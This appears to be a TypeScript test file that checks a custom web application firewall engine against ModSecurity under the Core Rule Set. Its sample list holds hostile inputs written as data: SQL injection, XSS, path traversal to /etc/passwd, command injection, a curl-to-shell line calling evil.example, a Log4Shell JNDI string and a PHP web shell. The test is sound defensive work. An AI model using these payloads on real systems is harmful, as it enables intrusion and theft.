// Our rule engine beside ModSecurity 3 (in nginx) under the same Core Rule Set: for each request the same rules match, at
// paranoia levels 1 to 3, but for what is listed with its reason. A difference that is not listed fails, and so does one
// that is listed and no longer there.

// biome-ignore-all lint/suspicious/noTemplateCurlyInString: that is what attacks look like

import assert from 'node:assert/strict'
import { isUtf8 } from 'node:buffer'
import { readFileSync } from 'node:fs'
import { Agent, request } from 'node:http'
import { join } from 'node:path'
import { test } from 'node:test'
import { attackSamples, benignSamples } from '../../src/guard/waf/builtin/testing/samples.ts'
import { compileSlowly, RuleBook } from '../../src/guard/waf/rules.ts'
import { readRuleFiles } from '../../src/guard/waf/sources.ts'
import type { WafBody, WafField } from '../../src/guard/waf/transaction.ts'
import { type BodyKind, readBodyText, readContentType } from '../../src/wire/body/index.ts'
import { startModSecurity } from '../tools/modsecurity.ts'

const rulesFolder = '/usr/share/modsecurity-crs/rules'
const levels = [1, 2, 3] as const

interface Asked {
  readonly name: string
  readonly method: string
  readonly target: string
  readonly headers: readonly WafField[]
  readonly body: string
  readonly kind: BodyKind
}

const classics: readonly string[] = [
  "1' or 1=1-- ",
  "1' UNION SELECT username, password FROM users-- ",
  "'; DROP TABLE users; --",
  '1; WAITFOR DELAY "0:0:5"',
  "' AND SLEEP(5)#",
  '1/**/union/**/select/**/null,version()',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(document.cookie)>',
  'javascript:alert(1)',
  '<iframe src="javascript:alert(1)"></iframe>',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd%00.png',
  '%252e%252e%252fetc%252fpasswd',
  '; cat /etc/passwd',
  '| whoami',
  '`id`',
  '$(curl http://evil.example/x | sh)',
  '() { :; }; /bin/bash -c id',
  'http://169.254.169.254/latest/meta-data/',
  'file:///etc/passwd',
  '<?php system($_GET["c"]); ?>',
  'eval(base64_decode("x"))',
  '${jndi:ldap://evil.example/a}',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
  'O:8:"stdClass":1:{s:1:"a";i:1;}',
  'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
  'header\r\nSet-Cookie: a=b',
  '\0nul',
  'caf\xc3\xa9 \xf0\x9f\x98\x80',
  '\xc0\xaf\xc0\xae',
  '%u003cscript%u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\x3cscript\\x3e',
]

function percent(text: string): string {
  return [...Buffer.from(text, 'latin1')].map(byte => `%${byte.toString(16).padStart(2, '0')}`).join('')
}

/** Its bytes, a character each. */
function inUtf8(text: string): string {
  return Buffer.from(text).latin1Slice()
}

function encoded(text: string): string {
  return text.replace(/[^A-Za-z0-9._~-]/g, percent)
}

const browser: readonly WafField[] = [
  ['Host', 'shop.example'],
  ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'],
  ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
]

function inQuery(name: string, text: string): Asked {
  const target = `/search?q=${encoded(text)}`
  return { name: `query: ${name}`, method: 'GET', target, headers: browser, body: '', kind: null }
}

function withBody(name: string, type: string, kind: BodyKind, body: string): Asked {
  const headers: WafField[] = [
    ...browser,
    ['Content-Type', type],
    ['Content-Length', String(Buffer.byteLength(body, 'latin1'))],
  ]
  return { name, method: 'POST', target: '/save', headers, body, kind }
}

function inForm(name: string, text: string): Asked {
  const type = 'application/x-www-form-urlencoded'
  return withBody(`form: ${name}`, type, 'urlencoded', `field=${encoded(text)}&send=1`)
}

function inCookie(name: string, text: string): Asked {
  const headers: WafField[] = [...browser, ['Cookie', `theme=${encoded(text)}; n=1`]]
  return { name: `cookie: ${name}`, method: 'GET', target: '/', headers, body: '', kind: null }
}

function inJson(name: string, text: string): Asked {
  const body = JSON.stringify({ field: text, list: [1, 'b'] })
  return withBody(`json: ${name}`, 'application/json', 'json', Buffer.from(body).latin1Slice())
}

function plain(name: string, change: Partial<Asked>): Asked {
  return { name, method: 'GET', target: '/', headers: browser, body: '', kind: null, ...change }
}

/** Forms that are no UTF-8 are refused before any rule is asked. */
const requests: readonly Asked[] = [
  ...[...classics, ...Object.values(attackSamples).flat().map(inUtf8)].flatMap((text, index) => [
    inQuery(JSON.stringify(text), text),
    index % 2 === 0 && isUtf8(Buffer.from(text, 'latin1'))
      ? inForm(JSON.stringify(text), text)
      : inCookie(JSON.stringify(text), text),
  ]),
  ...classics.filter(text => !/[\0\x80-\xff]/.test(text)).map(text => inJson(JSON.stringify(text), text)),
  ...benignSamples
    .map(inUtf8)
    .flatMap(text => [inQuery(JSON.stringify(text), text), inForm(JSON.stringify(text), text)]),
  plain('a page', { target: '/shop/items/17?page=2&sort=price' }),
  plain('a numeric host', { headers: [['Host', '127.0.0.1'], ...browser.slice(1)] }),
  plain('no User-Agent', { headers: [browser[0]!, browser[2]!] }),
  plain('no Accept', { headers: browser.slice(0, 2) }),
  plain('a scanner', { headers: [browser[0]!, ['User-Agent', 'sqlmap/1.7'], browser[2]!] }),
  plain('a backup file', { target: '/index.php.bak' }),
  plain('a dot file', { target: '/.git/config' }),
  plain('a path that climbs', { target: '/a/b/%2e%2e/%2e%2e/etc/passwd' }),
  plain('PUT', { method: 'PUT' }),
  plain('many ranges', { headers: [...browser, ['Range', 'bytes=1-2,3-4,5-6,7-8,9-10,11-12']] }),
  plain('a broken encoding', { target: '/?a=%zz&b=%4' }),
  plain('a repeated name', { target: '/?a=1&a=2&a=3' }),
]

/** Rules of evaluation and reporting say only what others led to. */
function counts(id: string): boolean {
  return !/^(?:949|959|980)/.test(id)
}

function bodyOf({ body, kind, headers }: Asked): WafBody | null {
  if (kind === null) return null
  const type = readContentType([headers.find(([name]) => name === 'Content-Type')![1]])
  assert.ok(type !== null && 'type' in type)
  const read = readBodyText(kind, type, body)
  assert.ok('args' in read, JSON.stringify(read))
  const processor = kind === 'json' ? 'JSON' : 'URLENCODED'
  return { ...read, processor, bytes: body.length, text: body, files: [], error: '' }
}

function ours(book: RuleBook, asked: Asked): string[] {
  const transaction = book.open()
  const { method, target, headers } = asked
  const head = { method, target, protocol: 'HTTP/1.1', address: '127.0.0.1', requestId: 'id', headers }
  transaction.requestHead(head)
  transaction.requestBody(bodyOf(asked))
  const { matches, exhausted } = transaction.judgement
  assert.equal(exhausted, false, asked.name)
  return [...new Set(matches.map(match => match.rule))].filter(counts).sort()
}

function send(port: number, asked: Asked, id: string, agent: Agent): Promise<number> {
  const { method, target, headers, body } = asked
  return new Promise((resolve, reject) => {
    const outgoing = request(
      { agent, host: '127.0.0.1', port, method, path: target, headers: [...headers, ['X-Id', id]].flat() },
      incoming => {
        incoming.resume()
        incoming.once('end', () => resolve(incoming.statusCode!))
      },
    )
    outgoing.once('error', reject)
    outgoing.end(Buffer.from(body, 'latin1'))
  })
}

test('the Core Rule Set matches in our engine what it matches in ModSecurity', async t => {
  const peer = await startModSecurity(t, rulesFolder, levels)
  const agent = new Agent({ keepAlive: true, maxSockets: 1 })
  t.after(() => agent.destroy())
  const { sources } = await readRuleFiles([rulesFolder])
  const set = await compileSlowly(sources, false, async () => {})
  const found = new Map<string, string[]>()
  for (const [index, level] of levels.entries()) {
    const settings = {
      paranoia: level,
      inboundThreshold: 5,
      outboundThreshold: 4,
      exclude: [],
      endsAtRefusal: false,
    }
    const book = new RuleBook(set, settings)
    for (const [number, asked] of requests.entries()) {
      const status = await send(peer.ports[index]!, asked, `${level}-${number}`, agent)
      assert.equal(status, 200, asked.name)
    }
    const theirs = await peer.matched(requests.map((_, number) => `${level}-${number}`))
    for (const [number, asked] of requests.entries()) {
      const here = new Set(
        ours(book, { ...asked, headers: [...asked.headers, ['X-Id', `${level}-${number}`]] }),
      )
      const there = new Set(theirs.get(`${level}-${number}`)!.filter(counts))
      for (const id of new Set([...here, ...there])) {
        if (here.has(id) === there.has(id)) continue
        const place = asked.name.split(':')[0]
        const key = `${here.has(id) ? 'only ours' : 'only theirs'} ${id}, ${place}`
        found.set(key, [...(found.get(key) ?? []), `PL${level} ${asked.name}`])
      }
    }
  }
  const listed = JSON.parse(
    readFileSync(join(import.meta.dirname, 'waf-modsecurity.json'), 'utf8'),
  ) as Record<string, string>
  const unlisted = [...found].filter(([key]) => !Object.hasOwn(listed, key))
  assert.deepEqual(unlisted, [], 'differences that are not listed')
  assert.deepEqual(
    Object.keys(listed).filter(key => !found.has(key)),
    [],
    'listed differences that are gone',
  )
})
